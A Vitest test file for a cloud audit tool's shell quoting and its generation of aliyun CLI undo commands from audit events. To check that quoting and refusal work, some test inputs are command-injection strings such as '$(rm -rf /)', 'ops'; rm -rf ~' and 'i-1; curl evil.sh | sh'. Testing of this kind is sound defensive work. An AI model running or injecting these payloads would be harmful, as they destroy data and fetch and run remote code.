import { describe, expect, it } from "vitest";
import { activateLocale } from "@/components/i18n/i18n";
import { at, makeEvent } from "@/lib/audit-event-factory";
import { loadInvestigateCatalog } from "./catalog";
import { revertHint } from "./revert-hints";
import { changeActions, toResourceChanges } from "./resource-changes";
import { shellQuote } from "./shell-quote";

const w = (
  name: string,
  params: Record<string, unknown>,
  extra: Partial<Parameters<typeof makeEvent>[0]> = {},
) => makeEvent({ time: at(3, 6), name, rw: "Write", params, ...extra });

describe("shellQuote", () => {
  it("leaves plain words and quotes everything else safely", () => {
    expect(shellQuote("i-bp1prodweb01ab9xz")).toBe("i-bp1prodweb01ab9xz");
    expect(shellQuote("a b")).toBe("'a b'");
    expect(shellQuote("$(rm -rf /)`x`;&|")).toBe("'$(rm -rf /)`x`;&|'");
    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
    expect(shellQuote("--profile")).toBe("'--profile'");
    expect(shellQuote("a\u0000b")).toBeUndefined();
  });
});

describe("revertHint", () => {
  it("suggests StartInstance for StopInstance", () => {
    const stop = w("StopInstance", {
      InstanceId: "i-bp1prodweb01ab9xz",
      RegionId: "cn-hangzhou",
      ForceStop: false,
    });
    expect(revertHint(stop, [stop])?.command).toBe(
      "aliyun ecs StartInstance --region cn-hangzhou --InstanceId i-bp1prodweb01ab9xz",
    );
  });

  it("revokes the exact security-group rule that was authorised", () => {
    const e = w("AuthorizeSecurityGroup", {
      SecurityGroupId: "sg-1",
      IpProtocol: "tcp",
      PortRange: "22/22",
      SourceCidrIp: "0.0.0.0/0",
    });
    expect(revertHint(e, [])?.command).toBe(
      "aliyun ecs RevokeSecurityGroup --region cn-hangzhou --SecurityGroupId sg-1 --IpProtocol tcp --PortRange 22/22 --SourceCidrIp 0.0.0.0/0",
    );
  });

  it("detaches an attached policy (RAM is global: no region) and restarts logging", () => {
    const attach = w(
      "AttachPolicyToUser",
      {
        PolicyType: "System",
        PolicyName: "AdministratorAccess",
        UserName: "backup-admin",
      },
      { service: "Ram" },
    );
    expect(revertHint(attach, [])?.command).toBe(
      "aliyun ram DetachPolicyFromUser --PolicyType System --PolicyName AdministratorAccess --UserName backup-admin",
    );
    const stop = w(
      "StopLogging",
      { Name: "prod-audit-trail" },
      { service: "Actiontrail" },
    );
    expect(revertHint(stop, [])?.command).toBe(
      "aliyun actiontrail StartLogging --region cn-hangzhou --Name prod-audit-trail",
    );
  });

  it("sets a bucket back to its previous ACL when known, and says so when not", () => {
    const before = makeEvent({
      time: at(1, 1),
      name: "GetBucketAcl",
      params: { BucketName: "finance-reports-2026" },
      response: {
        AccessControlPolicy: { AccessControlList: { Grant: "private" } },
      },
    });
    const put = w(
      "PutBucketAcl",
      { BucketName: "finance-reports-2026", "x-oss-acl": "public-read" },
      { service: "Oss" },
    );
    expect(revertHint(put, [before, put])).toMatchObject({
      command:
        "aliyun oss set-acl oss://finance-reports-2026 private -b --endpoint oss-cn-hangzhou.aliyuncs.com",
      alternative:
        "ossutil set-acl oss://finance-reports-2026 private -b --endpoint oss-cn-hangzhou.aliyuncs.com",
    });
    // A public ACL is set private even when the earlier ACL is unknown.
    expect(revertHint(put, [put])?.command).toMatch(/ private -b /);
    const narrow = w(
      "PutBucketAcl",
      { BucketName: "finance-reports-2026", "x-oss-acl": "private" },
      { service: "Oss" },
    );
    expect(revertHint(narrow, [narrow])?.command).toBeUndefined();
    expect(revertHint(narrow, [narrow])?.explanation).toMatch(
      /not in the loaded events/,
    );
  });

  it("recreates a deleted trail with the parameters of its creation in the window", () => {
    const create = makeEvent({
      time: at(0, 1),
      name: "CreateTrail",
      rw: "Write",
      service: "Actiontrail",
      params: {
        Name: "prod-audit-trail",
        OssBucketName: "prod-audit-archive-hz",
        HostId: "x",
      },
    });
    const del = w(
      "DeleteTrail",
      { Name: "prod-audit-trail" },
      { service: "Actiontrail" },
    );
    expect(revertHint(del, [create, del])?.command).toBe(
      "aliyun actiontrail CreateTrail --region cn-hangzhou --Name prod-audit-trail --OssBucketName prod-audit-archive-hz",
    );
    const bare = revertHint(del, [del]);
    expect(bare?.command).toBe(
      "aliyun actiontrail CreateTrail --region cn-hangzhou --Name prod-audit-trail",
    );
    expect(bare?.explanation).toMatch(/OssBucketName, SlsProjectArn/);
  });

  it("rebuilds CreateTrail from the last known settings, UpdateTrail included, and warns when the trail was made again", () => {
    const trail = { service: "Actiontrail" };
    const create = w(
      "CreateTrail",
      { Name: "t1", OssBucketName: "old-bucket", EventRW: "Write" },
      { ...trail, time: at(0, 1) },
    );
    const update = w(
      "UpdateTrail",
      { Name: "t1", OssBucketName: "new bucket" },
      { ...trail, time: at(1, 1) },
    );
    const other = w(
      "UpdateTrail",
      { Name: "t2", OssBucketName: "x" },
      { ...trail, time: at(1, 2) },
    );
    const del = w("DeleteTrail", { Name: "t1" }, trail);
    const hint = revertHint(del, [create, update, other, del]);
    expect(hint?.command).toBe(
      "aliyun actiontrail CreateTrail --region cn-hangzhou --Name t1 --OssBucketName 'new bucket' --EventRW Write",
    );
    expect(hint?.moot).toBeUndefined();
    const again = w(
      "CreateTrail",
      { Name: "t1" },
      { ...trail, time: at(4, 1) },
    );
    expect(revertHint(del, [create, del, again])?.moot).toMatch(
      /later CreateTrail/,
    );
  });

  it("warns that StartLogging is moot for a trail deleted later", () => {
    const trail = { service: "Actiontrail" };
    const stop = w("StopLogging", { Name: "prod-audit-trail" }, trail);
    const del = w(
      "DeleteTrail",
      { Name: "prod-audit-trail" },
      { ...trail, time: at(3, 7) },
    );
    const hint = revertHint(stop, [stop, del]);
    expect(hint?.command).toBe(
      "aliyun actiontrail StartLogging --region cn-hangzhou --Name prod-audit-trail",
    );
    expect(hint?.moot).toMatch(/deleted later/);
    expect(revertHint(stop, [stop])?.moot).toBeUndefined();
  });

  it("deletes a created AccessKey by user and key ID, names what is missing, and warns when it is already deleted", () => {
    const create = w(
      "CreateAccessKey",
      { UserName: "ops'; rm -rf ~" },
      { service: "Ram", response: { AccessKey: { AccessKeyId: "LTAI5tKey" } } },
    );
    expect(revertHint(create, [create])?.command).toBe(
      "aliyun ram DeleteAccessKey --UserName 'ops'\\''; rm -rf ~' --UserAccessKeyId LTAI5tKey",
    );
    const noUser = w(
      "CreateAccessKey",
      {},
      { service: "Ram", response: { AccessKey: { AccessKeyId: "LTAI5tKey" } } },
    );
    expect(revertHint(noUser, [noUser])?.explanation).toMatch(
      /lacks requestParameters\.UserName/,
    );
    const gone = w(
      "DeleteAccessKey",
      { UserName: "ops'; rm -rf ~", UserAccessKeyId: "LTAI5tKey" },
      { service: "Ram", time: at(4, 1) },
    );
    expect(revertHint(create, [create, gone])?.moot).toMatch(/already deleted/);
  });

  it("removes a public bucket policy and warns when the ACL was set private again", () => {
    const policy = w(
      "PutBucketPolicy",
      { BucketName: "$(touch pwned)" },
      { service: "Oss", region: "cn-shanghai" },
    );
    expect(revertHint(policy, [policy])?.command).toBe(
      "aliyun oss bucket-policy --method delete 'oss://$(touch pwned)' --endpoint oss-cn-shanghai.aliyuncs.com",
    );
    const put = w(
      "PutBucketAcl",
      { BucketName: "b1", "x-oss-acl": "public-read-write" },
      { service: "Oss" },
    );
    const fixed = w(
      "PutBucketAcl",
      { BucketName: "b1", "x-oss-acl": "private" },
      { service: "Oss", time: at(5, 1) },
    );
    expect(revertHint(put, [put, fixed])?.moot).toMatch(/set private again/);
    const flag = w(
      "PutBucketAcl",
      { BucketName: "-rf", "x-oss-acl": "public-read" },
      { service: "Oss" },
    );
    expect(revertHint(flag, [flag])?.command).toBeUndefined();
  });

  it("warns when a later call already undid the change", () => {
    const open = w("AuthorizeSecurityGroup", {
      SecurityGroupId: "sg-1",
      IpProtocol: "tcp",
      PortRange: "22/22",
      SourceCidrIp: "0.0.0.0/0",
    });
    const revoke = w(
      "RevokeSecurityGroup",
      {
        SecurityGroupId: "sg-1",
        IpProtocol: "tcp",
        PortRange: "22/22",
        SourceCidrIp: "0.0.0.0/0",
      },
      { time: at(5, 1) },
    );
    expect(revertHint(open, [open, revoke])?.moot).toMatch(/Already undone/);
    expect(revertHint(open, [open])?.moot).toBeUndefined();
  });

  it("quotes hostile values and refuses values that could act as flags or carry control characters", () => {
    const evil = w("StopInstance", { InstanceId: "i-1; curl evil.sh | sh" });
    expect(revertHint(evil, [])?.command).toBe(
      "aliyun ecs StartInstance --region cn-hangzhou --InstanceId 'i-1; curl evil.sh | sh'",
    );
    expect(
      revertHint(w("StopInstance", { InstanceId: "--profile=x" }), [])?.command,
    ).toBeUndefined();
    expect(
      revertHint(w("StopInstance", { InstanceId: "i\u0000" }), [])?.command,
    ).toBeUndefined();
  });

  it("has no command for failed calls and restarts", () => {
    expect(
      revertHint(
        w(
          "StopInstance",
          { InstanceId: "i-1" },
          { errorCode: "IncorrectInstanceStatus" },
        ),
        [],
      )?.command,
    ).toBeUndefined();
    expect(
      revertHint(w("RestartDBInstance", { DBInstanceId: "rm-1" }), [])
        ?.explanation,
    ).toBe("A restart cannot be undone.");
  });
});

describe("toResourceChanges", () => {
  it("orders writes newest first and diffs each against the previous change", () => {
    const a = makeEvent({
      time: at(0, 1),
      name: "ModifyDBInstanceSpec",
      rw: "Write",
      service: "Rds",
      params: { DBInstanceId: "rm-1", DBInstanceClass: "rds.mysql.s2.large" },
    });
    const b = makeEvent({
      time: at(1, 1),
      name: "ModifyDBInstanceSpec",
      rw: "Write",
      service: "Rds",
      params: { DBInstanceId: "rm-1", DBInstanceClass: "rds.mysql.s3.large" },
    });
    const read = makeEvent({ time: at(0, 5), name: "DescribeDBInstances" });
    const changes = toResourceChanges([b, read, a]);
    expect(changes.map((c) => c.event.id)).toEqual([b.id, a.id]);
    expect(changes[0]?.diff).toEqual([
      {
        key: "DBInstanceClass",
        before: "rds.mysql.s2.large",
        after: "rds.mysql.s3.large",
      },
    ]);
    expect(revertHint(b, [a, b])?.command).toBe(
      "aliyun rds ModifyDBInstanceSpec --region cn-hangzhou --DBInstanceId rm-1 --DBInstanceClass rds.mysql.s2.large",
    );
  });

  it("compares a change with the previous change of the same property, not the previous action", () => {
    const acl = makeEvent({
      time: at(0, 1),
      name: "PutBucketAcl",
      rw: "Write",
      service: "Oss",
      params: { BucketName: "b1", "x-oss-acl": "public-read-write" },
    });
    const tag = makeEvent({
      time: at(1, 1),
      name: "PutObjectTagging",
      rw: "Write",
      service: "Oss",
      params: { BucketName: "b1", tagging: "env=prod" },
    });
    const changes = toResourceChanges([acl, tag]);
    expect(changes[0]?.event.id).toBe(tag.id);
    expect(changes[0]?.diff).toEqual([
      { key: "tagging", before: undefined, after: "env=prod" },
    ]);
    expect(changeActions(changes)).toEqual([
      "PutBucketAcl",
      "PutObjectTagging",
    ]);
  });
});

describe("revertHint in the console's language", () => {
  const open = w("AuthorizeSecurityGroup", {
    SecurityGroupId: "sg-1",
    IpProtocol: "tcp",
    PortRange: "22/22",
    SourceCidrIp: "0.0.0.0/0",
  });
  const revoke = w(
    "RevokeSecurityGroup",
    {
      SecurityGroupId: "sg-1",
      IpProtocol: "tcp",
      PortRange: "22/22",
      SourceCidrIp: "0.0.0.0/0",
    },
    { time: at(5, 1) },
  );

  it("shows later events' times with their zone, never as the raw ISO text", () => {
    const moot = revertHint(open, [open, revoke])?.moot;
    expect(moot).toBe(
      "Already undone by a later RevokeSecurityGroup (2026-11-06 01:00:00 UTC).",
    );
    expect(
      revertHint(open, [open, revoke], () => "on the screen's clock")?.moot,
    ).toBe(
      "Already undone by a later RevokeSecurityGroup (on the screen's clock).",
    );
  });

  it("explains the way back in Chinese and keeps the command as it is", async () => {
    await loadInvestigateCatalog();
    await activateLocale("zh-CN");
    const hint = revertHint(open, [open, revoke], () => "2026-11-06 09:00:00");
    expect(hint?.explanation).toBe(
      "RevokeSecurityGroup 可撤销 AuthorizeSecurityGroup。",
    );
    expect(hint?.moot).toBe(
      "已被之后的 RevokeSecurityGroup（2026-11-06 09:00:00）撤销。",
    );
    expect(hint?.command).toMatch(/^aliyun ecs RevokeSecurityGroup /);
    const failed = w(
      "StopInstance",
      { InstanceId: "i-1" },
      { errorCode: "Forbidden" },
    );
    expect(revertHint(failed, [])?.explanation).toBe(
      "该调用失败（Forbidden），因此没有任何变更。",
    );
  });
});
